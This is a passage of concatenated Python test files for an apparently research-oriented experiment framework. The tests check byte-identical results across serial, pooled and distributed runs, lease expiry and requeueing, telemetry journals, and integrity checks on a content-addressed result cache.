            (reference_dir / "fig5.json").read_bytes()


def _interrupt(**kwargs):
    raise KeyboardInterrupt
