"""Golden determinism across executors, with the cell cache armed.

The tentpole's end-to-end acceptance: the same experiment produces the
same artefacts whether it runs serially, on the warm worker pool, or is
killed mid-sweep and resumed — *with* the fast interpreter loop and
cell memoization on.  Reports and checkpoints must be byte-identical,
and ``repro compare`` between the cold ledger run and a warm (memoized,
parallel) ledger run must exit 0.
"""

import json

import pytest

from repro.cli import EXIT_OK, main
from repro.core.experiments import run_fig5
from repro.core.experiments.fig5 import fig5_meta, plan_fig5
from repro.exec import CellCache, ProcessPoolBackend, execute_plan, open_store

#: Same cross-wave shape the parity tests use: 6 cells, 3 waves.
FIG5_KNOBS = dict(
    seed=8, attempts=2, detector_names=("lr", "nn"), training_benign=40,
    training_attack=40, attempt_samples=12, attempt_benign=6,
)

FIG5_CLI = ["fig5", "--quick", "--seed", "8"]


def _run_dir(ledger):
    [run_dir] = [path for path in ledger.iterdir()
                 if (path / "manifest.json").is_file()]
    return run_dir


class TestColdVsWarmLedgerRuns:
    def test_compare_exits_zero_and_cache_hits(self, tmp_path, capsys):
        cold_ledger = tmp_path / "cold"
        warm_ledger = tmp_path / "warm"
        cold_ckpt = tmp_path / "ckpt-cold"
        warm_ckpt = tmp_path / "ckpt-warm"

        assert main(FIG5_CLI + ["--ledger", str(cold_ledger),
                                "--resume", str(cold_ckpt)]) == EXIT_OK
        cold_out = capsys.readouterr().out

        # Warm run: parallel, fed from the cold run's cell cache.
        assert main(FIG5_CLI + ["--jobs", "2",
                                "--ledger", str(warm_ledger),
                                "--cell-cache",
                                str(cold_ledger / "cellcache"),
                                "--resume", str(warm_ckpt)]) == EXIT_OK
        warm_out = capsys.readouterr().out

        # Same stdout artefact, same checkpoint bytes.
        assert warm_out == cold_out
        assert (warm_ckpt / "fig5.json").read_bytes() == \
            (cold_ckpt / "fig5.json").read_bytes()

        # The warm run really was served from the cache ...
        manifest = json.loads(
            (_run_dir(warm_ledger) / "manifest.json").read_text()
        )
        cache_stats = manifest["timing"]["cell_cache"]
        assert cache_stats["enabled"]
        lookups = cache_stats["hits"] + cache_stats["misses"]
        assert lookups > 0
        assert cache_stats["hits"] / lookups >= 0.9

        # ... and the ledger diff is clean: memoization and parallelism
        # are invisible to everything compare checks.
        assert main(["compare", str(_run_dir(cold_ledger)),
                     str(_run_dir(warm_ledger))]) == EXIT_OK


class TestKillResumeWithCacheAndPool:
    def test_resumed_warm_parallel_run_matches_reference(self, tmp_path):
        cache_root = tmp_path / "cellcache"

        # Reference: uninterrupted serial run, cold cache.
        reference_dir = tmp_path / "reference"
        reference_dir.mkdir()
        reference = run_fig5(checkpoint=reference_dir,
                             cell_cache=CellCache(cache_root),
                             **FIG5_KNOBS)

        # Run 1: warm pool, killed while the attempt wave runs.
        killed_dir = tmp_path / "killed"
        killed_dir.mkdir()
        plan = plan_fig5(**FIG5_KNOBS)
        for cell in plan:
            if cell.key.startswith("spectre/"):
                cell.fn = _interrupt
        store = open_store(killed_dir, "fig5", fig5_meta(
            FIG5_KNOBS["seed"], "basicmath", FIG5_KNOBS["attempts"],
            FIG5_KNOBS["detector_names"], FIG5_KNOBS["training_benign"],
            FIG5_KNOBS["training_attack"], FIG5_KNOBS["attempt_samples"],
            FIG5_KNOBS["attempt_benign"],
        ))
        with pytest.raises(KeyboardInterrupt):
            execute_plan(plan, store=store,
                         backend=ProcessPoolBackend(2),
                         cell_cache=CellCache(cache_root))

        # Run 2: resume on the pool with the (now hot) cache; the
        # surviving checkpoint shard and the memoized cells must fuse
        # into the byte-identical reference artefact.
        resumed_cache = CellCache(cache_root)
        resumed = run_fig5(checkpoint=killed_dir, jobs=2,
                           cell_cache=resumed_cache, **FIG5_KNOBS)
        assert resumed.format() == reference.format()
        assert (killed_dir / "fig5.json").read_bytes() == \
            (reference_dir / "fig5.json").read_bytes()
        assert resumed_cache.hits > 0


def _interrupt(**kwargs):
    raise KeyboardInterrupt


class TestDistGoldenDeterminism:
    """Serial ≡ dist, including under lease-expiry chaos, twice.

    The dist cluster runs in-process (a real ``DistServer`` on an
    asyncio thread, real ``run_worker`` loops over real sockets) with
    one deliberately sick worker whose heartbeats arrive far past the
    lease timeout: its leases expire while it computes, the work
    requeues onto the healthy worker, and its late results race the
    retries.  None of that may be visible in the manifest — and a
    second run with the same seed and the same chaos must produce the
    same bytes again.
    """

    def test_requeue_chaos_is_invisible_and_repeatable(self):
        import io
        import time as _time

        from repro.exec.dist import DistBackend
        from repro.obs.ledger import manifest_bytes
        from repro.exec.chaos import _fig5_manifest

        from tests.exec.test_dist import _Cluster

        knobs = {"host": "basicmath",
                 **{k: v for k, v in FIG5_KNOBS.items() if k != "seed"}}
        reference = manifest_bytes(_fig5_manifest(knobs, 8, backend=None))

        requeues = []
        for attempt in range(2):
            cluster = _Cluster(lease_timeout=0.3, attempt_budget=6)
            # The sick worker joins first and alone, so the opening
            # wave lands on it and its expiring leases have victims.
            cluster.start_worker("w-slow", chaos={
                "seed": 8, "heartbeat_delay_s": 2.0,
            })
            _time.sleep(0.25)
            cluster.start_worker("w-ok")
            backend = DistBackend(cluster.address, seed=8,
                                  stream=io.StringIO())
            try:
                chaotic = _fig5_manifest(knobs, 8, backend=backend)
            finally:
                backend.close()
                cluster.stop()
            requeues.append(cluster.server.stats["requeues"])
            assert manifest_bytes(chaotic) == reference
        # The chaos was real: leases actually expired and requeued.
        assert sum(requeues) >= 1, requeues


class TestOooGoldenDeterminism:
    """The out-of-order core's sweeps are as deterministic as the
    in-order core's: the same ``--uarch ooo`` fig5 run is byte-identical
    whether it executes serially, on the warm worker pool, or across a
    real dist cluster."""

    KNOBS = {"host": "basicmath", "uarch": "ooo",
             **{k: v for k, v in FIG5_KNOBS.items() if k != "seed"}}

    def test_serial_pool_dist_byte_identical(self):
        import io

        from repro.exec.chaos import _fig5_manifest
        from repro.exec.dist import DistBackend
        from repro.obs.ledger import manifest_bytes

        from tests.exec.test_dist import _Cluster

        reference = manifest_bytes(
            _fig5_manifest(self.KNOBS, 8, backend=None)
        )

        pooled = _fig5_manifest(self.KNOBS, 8,
                                backend=ProcessPoolBackend(2))
        assert manifest_bytes(pooled) == reference

        cluster = _Cluster()
        cluster.start_worker("w-1")
        cluster.start_worker("w-2")
        backend = DistBackend(cluster.address, seed=8,
                              stream=io.StringIO())
        try:
            dist = _fig5_manifest(self.KNOBS, 8, backend=backend)
        finally:
            backend.close()
            cluster.stop()
        assert manifest_bytes(dist) == reference

    def test_uarch_is_part_of_the_run_identity(self):
        """inorder and ooo runs of the same knobs land under different
        run_ids (and genuinely different headline numbers may follow)."""
        from repro.exec.chaos import _fig5_manifest

        inorder_knobs = dict(self.KNOBS, uarch="inorder")
        ooo = _fig5_manifest(self.KNOBS, 8, backend=None)
        inorder = _fig5_manifest(inorder_knobs, 8, backend=None)
        assert ooo["run_id"] != inorder["run_id"]
        assert ooo["config"]["uarch"] == "ooo"
        assert inorder["config"]["uarch"] == "inorder"
