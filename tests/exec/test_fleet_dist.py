"""Fleet telemetry on the live dist tier, in one process.

Reuses the daemon-thread cluster shape from ``test_dist.py`` and pins
the observability contract on top of it: the server journals the
lifecycle (joins, waves, expiries, requeues) into a schema-valid JSONL
file, worker ``stats`` frames surface in the fleet snapshot a
``status``-role connection fetches, the Prometheus exposition file is
rewritten with live counters, and after a lost worker the client-side
``SweepProgress`` requeue tally reconciles exactly with the journal.
"""

import io
import socket
import threading
import time

import pytest

from repro.errors import FrameError, ServerUnreachableError
from repro.exec.dist import DistBackend, fleet_status
from repro.exec.progress import SweepProgress
from repro.exec.proto import read_frame, write_frame
from repro.obs.fleet import journal_totals, read_journal

from tests.exec.cells import seeded_value
from tests.exec.test_dist import _Cluster, _jobs, _scrub, _serial_reference


def _wait_for(predicate, timeout=5.0, interval=0.02):
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if predicate():
            return True
        time.sleep(interval)
    return predicate()


def _stall_worker(address, grabbed):
    """Claim one batch, then go silent (from ``test_dist.py``)."""
    sock = socket.create_connection(address, timeout=10.0)
    try:
        write_frame(sock, {"type": "hello", "role": "worker",
                           "worker_id": "stall"})
        read_frame(sock)                        # welcome
        write_frame(sock, {"type": "ready"})
        read_frame(sock)                        # the batch: keep it
        grabbed.set()
        while True:
            read_frame(sock)                    # ignore until torn down
    except (ConnectionError, FrameError, OSError):
        pass
    finally:
        sock.close()


class TestJournalledWave:
    def test_happy_path_wave_journals_its_lifecycle(self, tmp_path):
        journal_path = tmp_path / "journal.jsonl"
        cluster = _Cluster(journal=str(journal_path))
        cluster.start_worker("w0")
        backend = DistBackend(cluster.address, stream=io.StringIO())
        jobs = _jobs(6)
        try:
            got = {key: _scrub(outcome)
                   for key, outcome in backend.run_wave(jobs)}
        finally:
            backend.close()
            cluster.stop()
        assert got == _serial_reference(jobs)
        header, events = read_journal(journal_path)
        assert header["source"] == "server"
        kinds = [event["kind"] for event in events]
        assert "server.listening" in kinds
        assert "worker.join" in kinds
        assert "wave.submit" in kinds
        assert "wave.done" in kinds
        submit = next(e for e in events if e["kind"] == "wave.submit")
        assert submit["cells"] == 6
        done = next(e for e in events if e["kind"] == "wave.done")
        assert done["cells"] == 6
        assert done["counters"]["requeues"] == 0

    def test_cache_counters_ride_the_submit_into_the_journal(
            self, tmp_path):
        journal_path = tmp_path / "journal.jsonl"
        cluster = _Cluster(journal=str(journal_path))
        cluster.start_worker("w0")
        backend = DistBackend(
            cluster.address, stream=io.StringIO(),
            cache_stats=lambda: {"hits": 3, "misses": 5, "puts": 5,
                                 "poisoned": 1},
        )
        try:
            dict(backend.run_wave(_jobs(2)))
        finally:
            backend.close()
            cluster.stop()
        _, events = read_journal(journal_path)
        submit = next(e for e in events if e["kind"] == "wave.submit")
        assert submit["cache"] == {"hits": 3, "misses": 5, "puts": 5,
                                   "poisoned": 1}


class TestStatusEndpoint:
    def test_snapshot_reflects_worker_stats_frames(self):
        cluster = _Cluster()
        cluster.start_worker("w0")
        backend = DistBackend(cluster.address, stream=io.StringIO())
        try:
            dict(backend.run_wave(_jobs(4)))
            # The worker's final stats frame races the last outcome;
            # poll the live view until it lands.
            assert _wait_for(lambda: (
                fleet_status(cluster.address)
                .get("workers", {}).get("w0", {}).get("cells", 0) >= 4
            )), "worker stats never reached the fleet snapshot"
            snapshot = fleet_status(cluster.address)
        finally:
            backend.close()
            cluster.stop()
        assert snapshot["server"]["workers"] == 1
        assert snapshot["stats"]["results"] == 4
        worker = snapshot["workers"]["w0"]
        assert worker["batches"] >= 1
        assert worker["heartbeat_age_s"] is not None

    def test_unreachable_server_raises_typed_error(self):
        sock = socket.socket()
        sock.bind(("127.0.0.1", 0))
        port = sock.getsockname()[1]
        sock.close()
        with pytest.raises(ServerUnreachableError, match="unreachable"):
            fleet_status(("127.0.0.1", port), timeout=0.3)


class TestMetricsOut:
    def test_exposition_file_rewritten_with_live_counters(self, tmp_path):
        metrics_path = tmp_path / "metrics.prom"
        cluster = _Cluster(lease_timeout=0.4, stats_interval=0.05,
                           metrics_out=str(metrics_path))
        cluster.start_worker("w0")
        backend = DistBackend(cluster.address, stream=io.StringIO())
        try:
            dict(backend.run_wave(_jobs(4)))
            assert _wait_for(lambda: (
                metrics_path.exists()
                and "repro_dist_results_total 4"
                in metrics_path.read_text()
            )), "metrics file never showed the finished wave"
        finally:
            backend.close()
            cluster.stop()
        text = metrics_path.read_text()
        assert "# TYPE repro_dist_results_total counter" in text
        assert "repro_dist_requeues_total 0" in text
        assert "repro_dist_expiries_total 0" in text


class TestRequeueReconciliation:
    def test_progress_tally_matches_journal_after_a_lost_worker(
            self, tmp_path):
        """Satellite: a stalled worker's lease expiry must show up in
        the client progress stream (``req N`` suffix + requeue event)
        with the exact cell count the server journalled."""
        journal_path = tmp_path / "journal.jsonl"
        metrics_path = tmp_path / "metrics.prom"
        jobs = _jobs(4)
        cluster = _Cluster(lease_timeout=0.4, hedge=False,
                           stats_interval=0.05,
                           journal=str(journal_path),
                           metrics_out=str(metrics_path))
        grabbed = threading.Event()
        staller = threading.Thread(
            target=_stall_worker, args=(cluster.address, grabbed),
            daemon=True,
        )
        staller.start()
        time.sleep(0.2)                 # let the staller reach ready
        cluster.start_worker("w0")
        stream = io.StringIO()
        progress = SweepProgress("fig5", total=len(jobs), jobs=2,
                                 stream=stream)
        backend = DistBackend(cluster.address, events=progress.event,
                              stream=io.StringIO())
        try:
            got = {}
            for key, outcome in backend.run_wave(jobs):
                got[key] = _scrub(outcome)
                progress.update(key, outcome.get("status", "ok"),
                                outcome.get("elapsed", 0.0))
            assert _wait_for(lambda: (
                "repro_dist_requeues_total" in metrics_path.read_text()
                and "repro_dist_requeues_total 0"
                not in metrics_path.read_text()
            )), "requeue counter never reached the metrics file"
        finally:
            backend.close()
            cluster.stop()
        assert grabbed.is_set(), "staller never received a batch"
        assert got == _serial_reference(jobs)

        # Client-side view: the requeue event fired and the running
        # ``req N`` suffix reached the progress lines.
        assert progress.events.get("requeue", 0) >= 1
        assert progress.requeued_cells >= 1
        out = stream.getvalue()
        assert "! requeue" in out
        assert f"req {progress.requeued_cells}" in out

        # Server-side view: the journal recorded the expiry and the
        # requeue, and its cell total reconciles with the client tally.
        _, events = read_journal(journal_path)
        totals = journal_totals(events)
        assert totals["expiries"] >= 1
        assert totals["counts"].get("lease.requeue", 0) >= 1
        assert totals["requeued_cells"] == progress.requeued_cells
        assert cluster.server.stats["requeues"] == \
            progress.requeued_cells
        expired = next(e for e in events if e["kind"] == "lease.expired")
        assert expired["worker"] == "stall"

        # The lost worker's stats row drops out of the live snapshot
        # shape entirely (dead workers are not "stale rows").
        metrics_text = metrics_path.read_text()
        assert "repro_dist_expiries_total" in metrics_text
