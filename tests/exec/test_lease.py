"""LeaseTable policy: grant, expiry, requeue, budgets, hedging.

The table is clock-injected and synchronous precisely so these tests
can drive it with a fake clock and zero concurrency.  The last class
pins the determinism contract the chaos harness leans on: replaying
the same scripted schedule of grants, heartbeats and revocations
yields an identical requeue order and an identical event log.
"""

import pytest

from repro.errors import WorkerCrashError
from repro.exec.lease import LeaseTable, crash_outcome


class FakeClock:
    def __init__(self):
        self.now = 0.0

    def __call__(self):
        return self.now

    def advance(self, seconds):
        self.now += seconds


def _job(key):
    return {"key": key, "fn": "tests.exec.cells:seeded_value",
            "kwargs": {"tag": key}, "faults_kw": None, "faults": None}


def _table(batches, **kwargs):
    clock = FakeClock()
    kwargs.setdefault("lease_timeout", 10.0)
    table = LeaseTable("wave-1", [[_job(key) for key in batch]
                                  for batch in batches],
                       clock=clock, **kwargs)
    return table, clock


class TestGrantAndComplete:
    def test_grants_batches_in_declaration_order(self):
        table, _ = _table([["a", "b"], ["c"]])
        assert table.total == 3
        first = table.grant("w0")
        second = table.grant("w1")
        assert first.keys() == ["a", "b"]
        assert second.keys() == ["c"]
        assert table.grant("w0") is None
        assert table.outstanding == 2

    def test_complete_retires_the_lease_and_settles_the_wave(self):
        table, _ = _table([["a", "b"]])
        lease = table.grant("w0")
        assert not table.exhausted
        fresh = table.complete(lease.lease_id, ["a", "b"])
        assert fresh == ["a", "b"]
        assert table.exhausted

    def test_complete_filters_keys_a_rival_already_landed(self):
        table, _ = _table([["a"], ["b"]])
        first = table.grant("w0")
        table.complete(first.lease_id, ["a"])
        # A revoked lease's late result for "a" arrives afterwards:
        # tolerated, but not fresh.
        assert table.complete("wave-1/Lghost", ["a", "b"]) == ["b"]

    def test_grant_skips_cells_already_done(self):
        table, _ = _table([["a"], ["a", "b"]])
        lease = table.grant("w0")
        table.complete(lease.lease_id, ["a"])
        survivor = table.grant("w1")
        assert survivor.keys() == ["b"]


class TestExpiry:
    def test_heartbeat_keeps_a_lease_alive(self):
        table, clock = _table([["a"]], lease_timeout=10.0)
        lease = table.grant("w0")
        clock.advance(8.0)
        assert table.renew(lease.lease_id)
        clock.advance(8.0)
        assert table.expired() == []
        clock.advance(3.0)
        assert [stale.lease_id for stale in table.expired()] == \
            [lease.lease_id]

    def test_renew_of_a_revoked_lease_reports_failure(self):
        table, _ = _table([["a"]])
        lease = table.grant("w0")
        table.revoke(lease.lease_id)
        assert not table.renew(lease.lease_id)

    def test_expired_order_is_stale_first_and_stable(self):
        table, clock = _table([["a"], ["b"]], lease_timeout=5.0)
        first = table.grant("w0")
        clock.advance(2.0)
        second = table.grant("w1")
        clock.advance(6.0)
        assert [stale.lease_id for stale in table.expired()] == \
            [first.lease_id, second.lease_id]


class TestRevocation:
    def test_multi_cell_batch_splits_into_singletons_at_head(self):
        table, _ = _table([["a", "b", "c"], ["d"]])
        lease = table.grant("w0")
        requeued, degraded = table.revoke(lease.lease_id, "worker lost")
        assert requeued == ["a", "b", "c"]
        assert degraded == []
        # Head of the queue, declaration order preserved, then "d".
        assert table.pending_keys() == ["a", "b", "c", "d"]
        assert [len(batch) for batch in table.queue] == [1, 1, 1, 1]
        # The split charged nobody: no cell has an attempt on record.
        assert table.attempts == {}

    def test_singleton_revocation_charges_the_cell(self):
        table, _ = _table([["a"]], attempt_budget=3)
        for expected in (1, 2, 3):
            lease = table.grant("w0")
            requeued, degraded = table.revoke(lease.lease_id)
            assert requeued == ["a"] and degraded == []
            assert table.attempts["a"] == expected

    def test_over_budget_degrades_to_the_pool_crash_taxonomy(self):
        table, _ = _table([["a"]], attempt_budget=1)
        table.revoke(table.grant("w0").lease_id)
        requeued, degraded = table.revoke(table.grant("w1").lease_id,
                                          reason="worker w1 lost")
        assert requeued == []
        [(key, outcome)] = degraded
        assert key == "a"
        assert outcome["status"] == "err"
        assert outcome["recoverable"] is True
        assert outcome["type"] == WorkerCrashError.__name__
        assert "worker w1 lost" in outcome["chain"]
        assert "2 attempts" in outcome["chain"]
        # Degraded cells count as done: the wave can settle.
        assert table.exhausted

    def test_crash_outcome_matches_pool_shape(self):
        outcome = crash_outcome("cell/x", 3, reason="lease expired")
        assert set(outcome) == {"status", "chain", "recoverable",
                                "elapsed", "type"}
        assert outcome["type"] == "WorkerCrashError"

    def test_revoke_worker_sweeps_every_lease_it_held(self):
        table, _ = _table([["a"], ["b"], ["c"]])
        table.grant("w0")
        table.grant("w0")
        keeper = table.grant("w1")
        requeued, _ = table.revoke_worker("w0")
        assert sorted(requeued) == ["a", "b"]
        assert set(table.leases) == {keeper.lease_id}

    def test_revoked_cells_already_done_do_not_requeue(self):
        table, _ = _table([["a", "b"]])
        lease = table.grant("w0")
        hedge = table.hedge_candidate("w1", hedge_after=0.0)
        table.complete(hedge.lease_id, ["a", "b"])
        assert table.revoke(lease.lease_id) == ([], [])
        assert table.exhausted


class TestHedging:
    def test_hedge_only_when_queue_is_empty(self):
        table, clock = _table([["a"], ["b"]], lease_timeout=4.0)
        table.grant("w0")
        clock.advance(10.0)
        assert table.hedge_candidate("w1") is None  # "b" still queued
        table.grant("w1")
        hedge = table.hedge_candidate("w1")
        assert hedge is not None and hedge.keys() == ["a"]
        assert hedge.hedge_of is not None

    def test_hedge_never_duplicates_self_or_existing_hedge(self):
        table, clock = _table([["a"]], lease_timeout=4.0)
        original = table.grant("w0")
        clock.advance(10.0)
        assert table.hedge_candidate("w0") is None     # own lease
        hedge = table.hedge_candidate("w1")
        assert hedge.hedge_of == original.lease_id
        assert table.hedge_candidate("w2") is None     # already hedged

    def test_hedge_respects_hedge_after(self):
        table, clock = _table([["a"]], lease_timeout=8.0)
        table.grant("w0")
        clock.advance(3.0)
        assert table.hedge_candidate("w1") is None     # default: timeout/2
        clock.advance(1.5)
        assert table.hedge_candidate("w1") is not None

    def test_dropping_a_hedge_requeues_and_charges_nothing(self):
        table, clock = _table([["a"]], lease_timeout=4.0)
        table.grant("w0")
        clock.advance(10.0)
        hedge = table.hedge_candidate("w1")
        assert table.revoke(hedge.lease_id) == ([], [])
        assert table.attempts == {}
        assert table.pending_keys() == []

    def test_original_completion_wins_over_late_hedge(self):
        table, clock = _table([["a"]], lease_timeout=4.0)
        original = table.grant("w0")
        clock.advance(10.0)
        hedge = table.hedge_candidate("w1")
        assert table.complete(original.lease_id, ["a"]) == ["a"]
        assert table.complete(hedge.lease_id, ["a"]) == []


SCHEDULE = [
    ("grant", "w0"), ("grant", "w1"), ("tick", 2.0),
    ("beat", 1), ("tick", 4.0), ("reap",), ("grant", "w2"),
    ("tick", 1.0), ("done", 2, ["c"]), ("grant", "w1"),
    ("tick", 6.0), ("reap",), ("grant", "w0"), ("grant", "w0"),
    ("done", 5, ["a"]), ("done", 6, ["b"]),
]


def _replay(schedule):
    """Drive one table through a scripted schedule; return its story."""
    table, clock = _table([["a", "b"], ["c"], ["d"]],
                          lease_timeout=5.0, attempt_budget=3)
    issued = {}
    counter = 0
    for step in schedule:
        if step[0] == "grant":
            lease = table.grant(step[1])
            if lease is not None:
                counter += 1
                issued[counter] = lease.lease_id
        elif step[0] == "tick":
            clock.advance(step[1])
        elif step[0] == "beat":
            table.renew(issued[step[1]])
        elif step[0] == "reap":
            for stale in table.expired():
                table.revoke(stale.lease_id, reason="lease expired")
        elif step[0] == "done":
            table.complete(issued[step[1]], step[2])
    return table


class TestDeterminism:
    def test_same_schedule_replays_to_the_same_story(self):
        first = _replay(SCHEDULE)
        second = _replay(SCHEDULE)
        assert first.requeue_order() == second.requeue_order()
        assert first.log == second.log
        assert first.attempts == second.attempts
        assert first.done == second.done
        # And the schedule genuinely exercised revocation.
        assert first.requeue_order() != []

    def test_requeue_order_is_flat_revoke_history(self):
        table, _ = _table([["a", "b"]])
        lease = table.grant("w0")
        table.revoke(lease.lease_id)
        assert table.requeue_order() == [(lease.lease_id, "a"),
                                         (lease.lease_id, "b")]
