"""Cell memoization: content-addressed hits, misses, and poison handling.

The cache's safety argument has two legs — the *key* digest (any change
to experiment, cell identity, seed, resolved kwargs or trace config
produces a different key) and the *value* digest (a stored entry is
re-verified on every read, so corruption is detected and recomputed,
never trusted).  Both are pinned here, including end-to-end through
:func:`execute_plan`.
"""

import json
import os

import pytest

from repro.exec import CellCache, SweepPlan, execute_plan

from tests.exec.cells import seeded_value, summed


def _plan():
    plan = SweepPlan("toy", root_seed=7)
    plan.add("a", seeded_value, kwargs={"tag": "a"})
    plan.add("b", summed, kwargs={"factor": 2}, deps={"values": "a"})
    return plan


def _entry_files(cache):
    found = []
    for root, _dirs, files in os.walk(cache.root):
        found.extend(os.path.join(root, name) for name in files)
    return found


class TestDigest:
    def test_stable_for_identical_material(self, tmp_path):
        cache = CellCache(tmp_path)
        args = ("toy", "a", 123, seeded_value, {"tag": "a"})
        assert cache.digest(*args) == cache.digest(*args)

    @pytest.mark.parametrize("mutation", [
        {"experiment": "toy2"},
        {"key": "a2"},
        {"seed": 124},
        {"fn": summed},
        {"kwargs": {"tag": "b"}},
    ])
    def test_any_identity_change_changes_digest(self, tmp_path, mutation):
        cache = CellCache(tmp_path)
        base = dict(experiment="toy", key="a", seed=123,
                    fn=seeded_value, kwargs={"tag": "a"})
        baseline = cache.digest(**base)
        assert cache.digest(**{**base, **mutation}) != baseline

    def test_unserialisable_kwargs_are_uncacheable(self, tmp_path):
        cache = CellCache(tmp_path)
        digest = cache.digest("toy", "a", 1, seeded_value,
                              {"scenario": object()})
        assert digest is None
        assert cache.lookup(digest) is None
        cache.store(digest, "toy", "a", {"x": 1})  # silently skipped
        assert not _entry_files(cache)


class TestRoundTrip:
    def test_store_then_lookup(self, tmp_path):
        cache = CellCache(tmp_path)
        digest = cache.digest("toy", "a", 1, seeded_value, {"tag": "a"})
        assert cache.lookup(digest) is None  # cold
        cache.store(digest, "toy", "a", {"x": 1}, trace=[{"e": 1}],
                    metrics={"m": 2})
        assert cache.lookup(digest) == ({"x": 1}, [{"e": 1}], {"m": 2})
        assert cache.stats() == {"hits": 1, "misses": 1, "puts": 1,
                                 "poisoned": 0}

    def test_poisoned_entry_detected_and_discarded(self, tmp_path):
        cache = CellCache(tmp_path)
        digest = cache.digest("toy", "a", 1, seeded_value, {"tag": "a"})
        cache.store(digest, "toy", "a", {"x": 1})
        [path] = _entry_files(cache)
        entry = json.load(open(path))
        entry["payload"]["value"] = {"x": 999}  # tamper with the value
        with open(path, "w") as handle:
            json.dump(entry, handle)

        assert cache.lookup(digest) is None
        assert cache.poisoned == 1
        # The poisoned file is left in place: healing is write-only
        # (an unlink could destroy a rival healer's fresh entry), so
        # the entry is replaced by the recompute's store(), not here.
        assert os.path.exists(path)
        cache.store(digest, "toy", "a", {"x": 1})
        assert cache.lookup(digest) == ({"x": 1}, None, None)


class TestExecutePlanMemoization:
    def test_second_run_is_all_hits_with_identical_results(self, tmp_path):
        cache = CellCache(tmp_path / "cc")
        cold_status = {}
        cold = execute_plan(_plan(), statuses=cold_status, cell_cache=cache)
        assert cache.stats() == {"hits": 0, "misses": 2, "puts": 2,
                                 "poisoned": 0}

        warm_cache = CellCache(tmp_path / "cc")
        warm_status = {}
        warm = execute_plan(_plan(), statuses=warm_status,
                            cell_cache=warm_cache)
        assert warm == cold
        assert warm_cache.stats() == {"hits": 2, "misses": 0, "puts": 0,
                                      "poisoned": 0}
        assert {k: v["status"] for k, v in warm_status.items()} == \
            {"a": "cached", "b": "cached"}
        assert {k: v["status"] for k, v in cold_status.items()} == \
            {"a": "ok", "b": "ok"}

    def test_poisoned_cell_recomputed_end_to_end(self, tmp_path):
        cache = CellCache(tmp_path / "cc")
        cold = execute_plan(_plan(), cell_cache=cache)

        # Poison every stored entry the way bit rot / tampering would:
        # valid JSON, wrong payload for the recorded value digest.
        for path in _entry_files(cache):
            entry = json.load(open(path))
            entry["payload"]["value"] = "poison"
            with open(path, "w") as handle:
                json.dump(entry, handle)

        warm_cache = CellCache(tmp_path / "cc")
        warm = execute_plan(_plan(), cell_cache=warm_cache)
        assert warm == cold  # recomputed, not trusted
        assert warm_cache.poisoned == 2
        assert warm_cache.hits == 0
        assert warm_cache.puts == 2  # healthy entries written back

        # And the heal sticks: the next run is clean hits.
        healed = CellCache(tmp_path / "cc")
        assert execute_plan(_plan(), cell_cache=healed) == cold
        assert healed.stats() == {"hits": 2, "misses": 0, "puts": 0,
                                  "poisoned": 0}

    def test_concurrent_healers_converge(self, tmp_path):
        """N threads all detect the same poisoned entry and heal it.

        The race this pins: with unlink-on-detect, a slow healer's
        delete could land *after* a fast healer's store and destroy
        the healed entry.  With write-only healing every racer funnels
        through store()'s unique-temp + rename, so whatever the
        interleaving, the entry ends valid.
        """
        import threading

        cache = CellCache(tmp_path)
        digest = cache.digest("toy", "a", 1, seeded_value, {"tag": "a"})
        cache.store(digest, "toy", "a", {"x": 1})
        [path] = _entry_files(cache)
        entry = json.load(open(path))
        entry["payload"]["value"] = "poison"
        with open(path, "w") as handle:
            json.dump(entry, handle)

        start = threading.Barrier(8)
        outcomes = []

        def heal(index):
            healer = CellCache(tmp_path)
            start.wait()
            for _ in range(20):
                if healer.lookup(digest) is None:
                    # Recompute (deterministic) and write the heal.
                    healer.store(digest, "toy", "a", {"x": 1})
            outcomes.append(healer.stats())

        threads = [threading.Thread(target=heal, args=(index,))
                   for index in range(8)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()

        assert len(outcomes) == 8
        assert CellCache(tmp_path).lookup(digest) == ({"x": 1}, None, None)
        [final] = _entry_files(cache)
        assert final == path
        # Nobody can have read the poisoned payload as a hit value.
        total_hits = sum(stats["hits"] for stats in outcomes)
        total_poisoned = sum(stats["poisoned"] for stats in outcomes)
        assert total_poisoned >= 1
        assert total_hits + total_poisoned + \
            sum(stats["misses"] for stats in outcomes) == 8 * 20

    def test_fault_armed_plans_bypass_the_cache(self, tmp_path):
        cache = CellCache(tmp_path / "cc")
        execute_plan(_plan(), cell_cache=cache)

        armed = _plan()
        armed.faults = object()  # any armed injector disables memoization
        armed_cache = CellCache(tmp_path / "cc")
        execute_plan(armed, cell_cache=armed_cache)
        assert armed_cache.stats() == {"hits": 0, "misses": 0, "puts": 0,
                                       "poisoned": 0}
