"""Backend semantics: outcome protocol, parity, crash absorption.

The process-pool cases are the satellite requirements: a *raising*
worker is absorbed as a failed cell, a *dying* worker (``os._exit``)
is retried and then absorbed as a typed ``WorkerCrashError`` — and in
neither case may the pool deadlock or take the sweep down.
"""

import pytest

from repro.core.resilience import FaultInjector
from repro.exec import (
    CellExecutionError,
    ProcessPoolBackend,
    SerialBackend,
    SweepPlan,
    backend_for,
    execute_plan,
    invoke_cell,
)

from tests.exec.cells import (
    fatal_boom,
    fault_probe,
    hard_crash,
    seeded_value,
    summed,
    transient_boom,
)


class TestInvokeCell:
    def test_ok_outcome(self):
        outcome = invoke_cell(seeded_value, {"tag": "x", "cell_seed": 3})
        assert outcome["status"] == "ok"
        assert outcome["value"]["tag"] == "x"
        assert outcome["elapsed"] >= 0.0

    def test_recoverable_error_outcome(self):
        outcome = invoke_cell(transient_boom, {"cell_seed": 1})
        assert outcome["status"] == "err"
        assert outcome["recoverable"]
        assert "TransientError" in outcome["chain"]

    def test_fatal_error_outcome(self):
        outcome = invoke_cell(fatal_boom, {})
        assert outcome["status"] == "err"
        assert not outcome["recoverable"]

    def test_keyboard_interrupt_propagates(self):
        # ^C must stop the sweep, not degrade into a failed cell.
        with pytest.raises(KeyboardInterrupt):
            invoke_cell(
                lambda: (_ for _ in ()).throw(KeyboardInterrupt), {}
            )

    def test_fired_faults_ride_along(self):
        faults = FaultInjector(seed=0, rates={"hpc_drop": 1.0})
        outcome = invoke_cell(
            fault_probe, {"kind": "hpc_drop", "faults": faults},
            faults_kw="faults",
        )
        assert outcome["value"]["fired"]
        assert outcome["fired"] == {"hpc_drop": 1}


def _toy_plan(faults=None):
    plan = SweepPlan("toy", root_seed=11, faults=faults)
    for tag in ("a", "b", "c", "d"):
        plan.add(tag, seeded_value, kwargs={"tag": tag},
